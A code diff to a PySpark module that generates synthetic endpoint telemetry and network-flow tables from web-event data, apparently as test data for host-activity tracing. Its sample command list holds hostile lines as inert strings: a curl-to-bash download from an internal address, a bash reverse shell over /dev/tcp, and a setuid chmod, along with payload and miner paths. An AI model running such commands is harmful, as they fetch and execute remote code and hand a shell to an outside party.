@@ -5,13 +5,16 @@ exactly the same rows. A process is a user's activity on one day; its parent is
 every day holds a process forest, and processes without a `view` event lack a creation record.
 """
 
-_EVENT_IDS = {"view": 1, "click": 3, "purchase": 11, "signup": 23}
+from pyspark.sql import functions as F
+
+from hosttrace.session import materialize
 
 _LINUX_IMAGES = ["/usr/bin/bash", "/usr/bin/curl", "/tmp/payload", "/usr/bin/id", "/bin/rm", "/usr/sbin/sshd",
                  "/dev/shm/x/miner"]
 _WINDOWS_IMAGES = [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\tasklist.exe",
                    r"C:\Users\u\AppData\Local\Temp\svchost.exe",
-                   r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\conhost.exe"]
+                   r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\conhost.exe",
+                   r"C:\Windows\System32\wsmprovhost.exe", r"C:\Users\Public\splunkd.exe"]
 _LINUX_COMMANDS = ["curl -s http://10.0.0.5/x | bash > /tmp/out", "crontab -l", "chmod +s /tmp/a && id", "whoami",
                    "ls -la /home", "sh -c 'uname -a'", "sleep 5", "bash -i >& /dev/tcp/10.1.2.3/443 0>&1",
                    "echo QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgbW9yZQ== ; cat notes"]
@@ -76,15 +79,24 @@ FROM (SELECT *, CAST(day(ts) AS INT) AS day, CAST(regexp_extract(props, '([0-9]+
 
 
 EVENTS_SQL = _sql()
+# Every click also reaches the network sensor, on a clock 0.25 s ahead; errors reach it alone, on the same addresses.
 FLOWS_SQL = """
-SELECT 'C' || CAST(event_id AS VARCHAR(20)) AS uid, epoch_s + shift AS ts,
-       '10.0.0.' || CAST(user_id % 250 AS VARCHAR(3)) AS orig_h, 40000 + k AS orig_p,
-       CASE WHEN k % 3 = 0 THEN '192.168.56.' ELSE '8.8.4.' END || CAST(k % 5 AS VARCHAR(2)) AS resp_h,
-       CASE WHEN k % 4 = 0 THEN 443 ELSE 80 END AS resp_p, CASE WHEN k % 2 = 0 THEN 'tcp' ELSE 'udp' END AS proto,
-       CASE k % 4 WHEN 0 THEN 'http' WHEN 1 THEN 'dns' WHEN 2 THEN 'ssl' END AS service,
-       value AS duration, CAST(floor(value * 10) AS BIGINT) AS orig_bytes, CAST(k * 7 AS BIGINT) AS resp_bytes,
-       CASE WHEN k % 5 = 0 THEN 'S0' ELSE 'SF' END AS conn_state
-FROM flow_source"""
+SELECT 'C' || CAST(event_id AS VARCHAR(20)) AS uid, 'run_' || lpad(CAST(day AS VARCHAR(2)), 2, '0') AS session,
+       us / 1000000.0 + 0.25 AS ts, '10.0.0.' || CAST(user_id % 250 AS VARCHAR(3)) AS orig_h,
+       40000 + k AS orig_p, CASE WHEN k % 3 = 0 THEN '192.168.56.' ELSE '8.8.4.' END
+       || CAST(k % 5 AS VARCHAR(2)) AS resp_h, CASE WHEN k % 4 = 0 THEN 443 ELSE 80 END AS resp_p,
+       CASE WHEN k % 2 = 0 THEN 'tcp' ELSE 'udp' END AS proto,
+       CASE k % 4 WHEN 0 THEN 'http' WHEN 1 THEN 'dns' WHEN 2 THEN 'ssl' END AS service, value AS duration,
+       CAST(floor(value * 10) AS BIGINT) AS orig_bytes, CAST(k * 7 AS BIGINT) AS resp_bytes,
+       CASE WHEN k % 5 = 0 THEN 'S0' ELSE 'SF' END AS conn_state,
+       CASE WHEN k % 4 = 1 THEN 'h' || CAST(k AS VARCHAR(3)) || '.example.org' END AS dns_query,
+       CASE WHEN k % 4 = 0 THEN 'site' || CAST(k % 7 AS VARCHAR(3)) END AS http_host,
+       CASE WHEN k % 4 = 0 THEN 'agent/' || CAST(k % 3 AS VARCHAR(3)) END AS http_user_agent,
+       CASE WHEN k % 4 = 2 THEN 'tls' || CAST(k % 6 AS VARCHAR(3)) END AS ssl_server_name
+FROM (SELECT *, CAST(day(ts) AS INT) AS day, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k
+      FROM events WHERE event_type IN ('click', 'error')) AS source"""
+
+_written = {}
 
 
 def table(spark, sf_dir, name):
@@ -103,3 +115,20 @@ def telemetry(spark, sf_dir):
     """`events` as endpoint telemetry."""
     rows = spark_sql(spark, EVENTS_SQL, events=table(spark, sf_dir, "events"))
     return rows.withColumn("UtcTime", rows.UtcTime.cast("timestamp"))
+
+
+def telemetry_table(spark, sf_dir):
+    """The same rows as a written table, as an earlier parse would have left them; written once per session."""
+    key = (spark.sparkContext.applicationId, sf_dir)
+    if key not in _written:
+        _written[key] = materialize(telemetry(spark, sf_dir), "telemetry")
+    return _written[key]
+
+
+def flows(spark, sf_dir):
+    source = table(spark, sf_dir, "events")
+    timed = source.withColumn("us", F.unix_micros(source.ts.cast("timestamp")))
+    return spark_sql(spark, FLOWS_SQL, events=timed)
+
+
+FLOWS_DUCK = FLOWS_SQL.replace("FROM events", "FROM (SELECT *, epoch_us(ts) AS us FROM events)")
